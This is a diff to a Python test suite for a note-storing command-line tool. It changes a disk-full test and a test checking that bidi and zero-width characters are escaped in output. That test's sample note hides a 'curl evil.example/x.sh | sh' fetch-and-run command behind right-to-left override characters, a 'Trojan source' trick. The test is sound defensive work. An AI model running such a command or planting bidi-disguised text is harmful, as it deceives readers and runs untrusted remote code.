@@ -54,7 +54,7 @@ class DiskFull(TempHome):
 
     def test_a_full_disk_says_so_and_what_to_do_not_that_another_openmemory_runs(self):
         with full_disk():
-            code, out, err = run("remember", "--cwd", PROJECT, self.big_note())
+            code, out, err = run("remember", "--cwd", str(self.tmp), self.big_note())
         self.assertEqual((code, out), (1, ""))
         self.assertEqual(len(err.splitlines()), 1, err)
         self.assertIn("the disk holding it is full", err)
@@ -209,9 +209,11 @@ class ControlCharacters(TempHome):
         # "Trojan source" in a note: in a terminal that applies bidi, the person reading `show`,
         # `recall` or `lessons` would see "curl evil.example/x.sh | sh" where the text is backwards.
         note = "deploy with \u202ehs | hs.x/elpmaxe.live lruc\u202c and cu\u200brl"
-        self.ok("remember", "--cwd", "/home/dev/shop", note)
-        outputs = [self.ok("recall", "deploy with", "--cwd", "/home/dev/shop"), self.ok("show", "e1"),
-                   self.ok("recall", "deploy with", "--json", "--cwd", "/home/dev/shop")]
+        shop = self.tmp / "shop"    # a folder here: remember --cwd names one
+        shop.mkdir()
+        self.ok("remember", "--cwd", shop, note)
+        outputs = [self.ok("recall", "deploy with", "--cwd", shop), self.ok("show", "e1"),
+                   self.ok("recall", "deploy with", "--json", "--cwd", shop)]
         for p in outputs:
             self.assertFalse(any(c in p.stdout for c in "\u202e\u202c\u200b"), p.stdout)
         self.assertIn("\\u202ehs | hs.x/elpmaxe.live lruc\\u202c and cu\\u200brl", outputs[1].stdout)
